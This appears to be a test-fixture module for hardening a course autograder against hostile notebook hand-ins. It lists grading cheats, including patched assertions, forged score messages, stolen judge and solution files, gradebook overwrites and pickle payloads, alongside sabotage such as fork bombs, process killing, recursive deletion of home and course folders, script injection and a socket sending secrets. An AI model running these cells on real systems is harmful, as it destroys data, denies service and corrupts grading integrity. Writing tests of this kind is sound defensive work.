"""Hostile hand-ins and what they deserve: cheating earns nothing, damage costs nothing.

Each attack is one cell put into the lab E3: into the empty release, where it tries to earn marks
(deserved: 0), or into the solution, where it tries to do harm (deserved: every automatic point).
`{secret}` is replaced by the place of a teacher's file, `{root}` by the course's folder.
"""

from __future__ import annotations

from dataclasses import dataclass, field

EARLY, LATE = "early", "late"  # right after the lab was opened; after everything


@dataclass(frozen=True)
class Attack:
    """`steals`: only a level that separates files can stop it. `files`: lie beside the notebook."""

    name: str
    cell: str
    cheats: bool
    where: str = EARLY
    steals: bool = False
    files: dict[str, bytes] = field(default_factory=dict)


def _cheat(name: str, cell: str, **rest: object) -> Attack:
    return Attack(name, cell, True, **rest)  # type: ignore[arg-type]


def _harm(name: str, cell: str, **rest: object) -> Attack:
    return Attack(name, cell, False, **rest)  # type: ignore[arg-type]


_HAND_IN_ALL = """
items = [f"E3-{k:02d}" for k in range(1, 12)]
names = "male dealt target sorted2 pivot detail top20_share rfm rfm_group pyramid chart".split()
"""
_STEAL = """
def steal(spec, student):
    world = spec.world(student)
    for item in spec.automatic:
        try: lab.answer(item.id, item.expect(world))
        except Exception as e: print(e)
"""

CHEATS = [
    _cheat("pandas.testing patched", """
import pandas.testing, numpy.testing
for m in (pandas.testing, numpy.testing):
    for n in dir(m):
        if n.startswith("assert"): setattr(m, n, lambda *a, **k: None)
"""),
    _cheat("builtins patched", """
import builtins
builtins.isinstance = lambda *a: True
builtins.sorted = lambda x, **k: []
builtins.abs = lambda x: 0
builtins.all = builtins.any = lambda *a: True
"""),
    _cheat("numpy and math compare everything as close", """
import numpy as np, math
np.allclose = np.isclose = math.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
"""),
    _cheat("an object equal to everything", """
class Same:
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __len__(self): return 1
    def __iter__(self): return iter([self])
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __getitem__(self, k): return self
male = dealt = target = sorted2 = pivot = detail = top20_share = rfm = rfm_group = pyramid = Same()
"""),
    _cheat("a type that lies about itself", """
import pandas as pd
class Lie:
    __class__ = pd.DataFrame
    columns = ["客户编号"]
    def __eq__(self, o): return True
male = dealt = target = detail = Lie()
"""),
    _cheat("numbers equal to all numbers", """
class N(float):
    def __eq__(self, o): return True
    def __sub__(self, o): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    __hash__ = float.__hash__
top20_share = N(0.5)
rfm_group = {k: N(1) for k in "一二三四五六七八"}
"""),
    _cheat("a frame whose values change when looked at twice", """
import pandas as pd
class Frame(pd.DataFrame):
    @property
    def values(self): return None
    def to_dict(self, *a, **k): return {}
    def equals(self, o): return True
    def __eq__(self, o): return True
male = dealt = detail = Frame({"客户编号": ["C000001"]})
"""),
    _cheat("forged answers of every kind shown directly", """
from IPython.display import publish_display_data
from crmkit.lab import snapshot
""" + _HAND_IN_ALL + """
for i in items:
    for value in (True, None, {"score": 10}, "10", 10**9, float("nan"), {"type": "right"}):
        publish_display_data({snapshot.ANSWER_MIME: {"item": i, "value": value, "score": 10}})
    publish_display_data({snapshot.RETURNS_MIME: {"item": i, "value": value, "score": 10}})
"""),
    _cheat("partial credit printed as results", """
for k in range(30):
    get_ipython().displayhook(10)
    print("10.0"); print("Score: 100")
10
"""),
    _cheat("results shown from every later cell", """
get_ipython().events.register("post_run_cell", lambda r: get_ipython().displayhook(10))
""", where=EARLY),
    _cheat("later cells rewritten by an input transformer", """
def swap(lines):
    return ["lab.answer = print\\n", "10\\n"] if any("lab.answer" in x for x in lines) else lines
get_ipython().input_transformers_cleanup.append(swap)
"""),
    _cheat("asserts removed by an AST transformer", """
import ast
class T(ast.NodeTransformer):
    def visit_Assert(self, n): return ast.Pass()
    def visit_Call(self, n): return ast.Constant(10)
get_ipython().ast_transformers.append(T())
"""),
    _cheat("a lab object of one's own", """
class Lab2:
    def __getattr__(self, n): return lambda *a, **k: print("已提交，满分")
lab = Lab2()
"""),
    _cheat("the student's number changed to a neighbour's", """
import os
for k in list(os.environ):
    if "CRMKIT" in k: os.environ[k] = "2025010102"
lab.student = "2025010102"
学号 = "2025010102"
from crmkit.lab import Lab
lab = Lab("E3", "2025010102")
"""),
    _cheat("data of one's own in place of the shop's", """
import os, pathlib, shutil
pathlib.Path("datasets").mkdir(exist_ok=True)
pathlib.Path("datasets/meta.yaml").write_text("as_of: 2025-12-31", encoding="utf-8")
os.environ["CRMKIT_DATASETS"] = os.path.abspath("datasets")
import crmkit.shops
crmkit.shops.root = lambda: pathlib.Path("datasets")
"""),
    _cheat("the judge imported", """
import sys
sys.path[:0] = ["{root}"]
""" + _STEAL + """
from autograder import judge
steal(judge.load("E3"), "2025010101")
""", steals=True),
    _cheat("the judge read from the source folder", """
import pathlib
text = pathlib.Path("{root}/autograder/source/E3/judge.py").read_text(encoding="utf-8")
space = {"__name__": "judge"}
exec(text, space)
""" + _STEAL + """
steal(space["lab"], "2025010101")
""", steals=True),
    _cheat("the solution text read and run", """
import pathlib, re
text = pathlib.Path("{root}/autograder/source/E3/lab.md").read_text(encoding="utf-8")
for block in re.findall(r"```\\{code-cell\\}[^\\n]*\\n(.*?)```", text, re.S):
    if "Lab(" not in block and not block.strip().startswith("学号"):
        exec("\\n".join(x for x in block.splitlines() if not x.startswith((":", "+", "---"))), globals())
""", steals=True),
    _cheat("judges looked for in the process's memory", """
import gc, sys
found = [o for o in gc.get_objects() if type(o).__name__ in ("LabSpec", "Item")]
""" + _STEAL + """
for spec in found:
    if hasattr(spec, "automatic"): steal(spec, "2025010101")
for name, m in list(sys.modules.items()):
    if name.startswith("autograder"):
        for v in vars(m).values():
            if hasattr(v, "automatic"): steal(v, "2025010101")
"""),
    _cheat("frames of callers searched", """
import sys
f = sys._getframe()
while f:
    for v in list(f.f_locals.values()) + list(f.f_globals.values()):
        if hasattr(v, "expect") or hasattr(v, "automatic"):
            print("found", v)
    f = f.f_back
"""),
    _cheat("the notebook and history searched for answers", """
import os
for folder, _, names in os.walk(os.path.expanduser("~")):
    for n in names:
        if n.endswith(".ipynb"): print(open(os.path.join(folder, n), encoding="utf-8").read()[:100])
print(In, Out)
"""),
    _cheat("an answer from a thread after the end", """
import threading, time
from IPython.display import publish_display_data
def later():
    time.sleep(1)
    for k in range(20):
        lab.answer("E3-07", 0.61); time.sleep(.1)
threading.Thread(target=later, daemon=True).start()
""", where=LATE),
    _cheat("pickled payloads in an answer", """
import os, pickle, base64
class P:
    def __reduce__(self): return (os.system, ("touch {secret}.pwned",))
bad = pickle.dumps(P())
from crmkit.lab import snapshot
from IPython.display import publish_display_data
for v in (bad.decode("latin1"), base64.b64encode(bad).decode(), {"type": "pickle", "value": base64.b64encode(bad).decode()},
          {"__reduce__": ["os.system", "touch {secret}.pwned"]}):
    publish_display_data({snapshot.ANSWER_MIME: {"item": "E3-07", "value": v}})
top20_share = P()
"""),
    _cheat("answers too deep, too long, too large", """
from crmkit.lab import snapshot
from IPython.display import publish_display_data
deep = []
for _ in range(900): deep = [deep]
for v in (deep, "x" * 30_000_000, 10**4000, list(range(2_000_000))):
    try: publish_display_data({snapshot.ANSWER_MIME: {"item": "E3-07", "value": v}})
    except Exception as e: print(type(e))
ring = []; ring.append(ring)
top20_share = ring
"""),
    _cheat("files of the teacher handed in", """
import os
from IPython.display import publish_display_data
from crmkit.lab import snapshot
os.symlink("{secret}", "link.xlsx"); os.mkfifo("pipe.xlsx"); os.mkdir("folder.xlsx")
for p in ("{secret}", "../../gradebook.db", "link.xlsx", "pipe.xlsx", "folder.xlsx", "/dev/zero", "\\x00", "." * 5000):
    publish_display_data({snapshot.ANSWER_MIME: {"item": "E3-05", "value": {"type": "file", "path": p}}})
    try: lab.answer("E3-05", p)
    except Exception as e: print(type(e))
"""),
    _cheat("marks written into records and gradebook", """
import glob, json, os, sqlite3
for base in ("{secret}", ".", "..", "../..", os.path.expanduser("~")):
    folder = os.path.dirname(base) or base
    for p in glob.glob(folder + "/**/*.json", recursive=True) + glob.glob(folder + "/**/gradebook.db", recursive=True):
        try:
            if p.endswith(".db"):
                c = sqlite3.connect(p, timeout=1); c.execute("update grade set auto_score = 100"); c.commit()
            else: open(p, "w", encoding="utf-8").write('{"auto_score": 100}')
        except Exception as e: print(type(e).__name__)
""", steals=True),
    _cheat("the kit's own functions replaced", """
import crmkit.lab.checks, crmkit.lab.snapshot, crmkit.lab.lab
for m in (crmkit.lab.checks, crmkit.lab.snapshot):
    for n in list(vars(m)):
        if callable(getattr(m, n)) and not isinstance(getattr(m, n), type):
            setattr(m, n, lambda *a, **k: [])
"""),
    _cheat("imports poisoned by files beside the notebook", "import pandas, json", files={
        "pandas.py": b"print('mine')", "json.py": b"dumps = loads = lambda *a, **k: '10'",
        "crmkit/__init__.py": b"", "crmkit/lab/__init__.py": b"class Lab:\n def __init__(s,*a): pass\n def answer(s,*a,**k): return 10\n",
        "sitecustomize.py": b"import builtins; builtins.isinstance = lambda *a: True",
        "usercustomize.py": b"raise SystemExit", "autograder.py": b"", "numpy.pth": b"import os; os._exit(1)",
        ".ipython/profile_default/startup/00.py": b"10", ".ipython/profile_default/ipython_config.py": b"raise SystemExit",
        ".jupyter/jupyter_config.py": b"raise SystemExit", "ipython_config.py": b"raise SystemExit", "matplotlibrc": b"backend: nothing",
    }),
    _cheat("cells switched off by tags and magics", """
%%script false --no-raise-error
10
"""),
    _cheat("protocol messages forged on every open descriptor", """
import os, json
for message in (b'{"outputs": [], "done": true}\\n', b'\\x00\\x00\\x00\\x10{"score": 10}' * 100, os.urandom(5000)):
    for fd in range(3, 200):
        try: os.write(fd, message)
        except OSError: pass
"""),
]  # fmt: skip

HARMS = [
    _harm("endless loop", "while True: pass", where=LATE),
    _harm("endless loop that catches the interrupt", """
while True:
    try:
        while True: pass
    except BaseException: pass
""", where=LATE),
    _harm("sleep for ever", "import time; time.sleep(10**6)", where=LATE),
    _harm("exit of the process, early", "import os; os._exit(0)"),
    _harm("sys.exit", "import sys; sys.exit(1)"),
    _harm("quit and exit", "exit()"),
    _harm("kills itself", "import os, signal; os.kill(os.getpid(), signal.SIGKILL)"),
    _harm("stops itself", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)", where=LATE),
    _harm("segmentation fault", "import ctypes; ctypes.string_at(0)"),
    _harm("abort", "import os; os.abort()"),
    _harm("kills its parent", "import os, signal; os.kill(os.getppid(), signal.SIGKILL)", where=LATE, steals=True),
    _harm("kills everything it may", "import os, signal; os.kill(-1, signal.SIGKILL)", where=LATE, steals=True),
    _harm("kills its process group", "import os, signal; os.killpg(0, signal.SIGKILL)", where=LATE),
    _harm("fork bomb", """
import os
for _ in range(12):
    try: os.fork()
    except OSError: pass
import time; time.sleep(30)
""", where=LATE),
    _harm("threads without end", """
import threading, time
try:
    for _ in range(10000): threading.Thread(target=time.sleep, args=(1000,)).start()
except RuntimeError as e: print(e)
""", where=LATE),
    _harm("memory without end", "x = []\nwhile True: x.append(bytearray(50_000_000))", where=LATE),
    _harm("one huge array", "import numpy as np; a = np.ones(10**11)", where=LATE),
    _harm("disk without end", """
with open("big", "wb") as f:
    while True: f.write(b"x" * 10_000_000)
""", where=LATE),
    _harm("files without end", """
import os
os.makedirs("many", exist_ok=True)
for n in range(20_000):
    try: open(f"many/{n}", "w").close()
    except OSError as e: print(e); break
""", where=LATE),
    _harm("folders without end", """
import os
try:
    for _ in range(3000): os.mkdir("d"); os.chdir("d")
except OSError as e: print(e)
""", where=LATE),
    _harm("output without end", "while True: print('x' * 10_000)", where=LATE),
    _harm("a few very large outputs", "print('x' * 60_000_000)", where=LATE),
    _harm("displays without end", """
from IPython.display import display, HTML
while True: display(HTML("<script>alert(1)</script>" * 1000))
""", where=LATE),
    _harm("errors without end on stderr", "import sys\nwhile True: sys.stderr.write('e' * 9999)", where=LATE),
    _harm("warnings in every cell", """
import sys, warnings
get_ipython().events.register("pre_run_cell", lambda i: (warnings.warn("w"), print("e", file=sys.stderr)))
"""),
    _harm("a traceback of a megabyte", "raise ValueError('y' * 5_000_000)", where=LATE),
    _harm("a daemon that survives", """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.close(1); os.close(2)
        time.sleep(600); os._exit(0)
    os._exit(0)
"""),
    _harm("a busy thread in the background", """
import threading
def spin():
    while True: pass
threading.Thread(target=spin, daemon=True).start()
""", where=LATE),
    _harm("all descriptors closed", """
import os
for fd in range(0, 256):
    try: os.close(fd)
    except OSError: pass
""", where=LATE),
    _harm("standard streams replaced", """
import sys, io
sys.stdout = sys.stderr = io.StringIO(); sys.stdin = None
"""),
    _harm("an exit handler that never ends", """
import atexit, time
atexit.register(lambda: time.sleep(10**6))
""", where=LATE),
    _harm("signal handlers that ignore everything", """
import signal
for s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
while True: pass
""", where=LATE),
    _harm("a trace function that raises", "import sys; sys.settrace(lambda *a: 1/0)", where=LATE),
    _harm("recursion without end", "import sys; sys.setrecursionlimit(10**9)\ndef f(): f()\nf()", where=LATE),
    _harm("deletes what it finds", """
import shutil, os
for p in (os.path.expanduser("~"), "{root}", "/tmp", "."):
    shutil.rmtree(p, ignore_errors=True)
""", where=LATE, steals=True),
    _harm("waits for input", "input('学号？')"),
    _harm("options and seeds turned over", """
import pandas as pd, numpy as np, random, os
pd.set_option("display.max_rows", 1); np.random.seed(0); random.seed(0)
np.seterr(all="ignore")
"""),
    _harm("figures without end", """
import matplotlib.pyplot as plt
for _ in range(60): plt.figure(figsize=(30, 30)); plt.plot([1, 2])
""", where=LATE),
    _harm("a zip bomb beside the notebook", "1", files={"bomb.xlsx": b"PK\x03\x04" + b"\0" * 1000}),
    _harm("script in everything that is shown", """
from IPython.display import HTML, Javascript, display
display(HTML("<img src=x onerror=alert(1)>"), Javascript("alert(1)"))
raise ValueError("</script><script>alert(1)</script>")
""", where=LATE),
    _harm("talks to the network", """
import socket
for address in (("127.0.0.1", {port}), ("10.0.0.1", 80)):
    try: socket.create_connection(address, timeout=1).sendall(b"secret"); print("CONNECTED")
    except OSError as e: print(e)
""", steals=True),
]  # fmt: skip

ATTACKS = [*CHEATS, *HARMS]
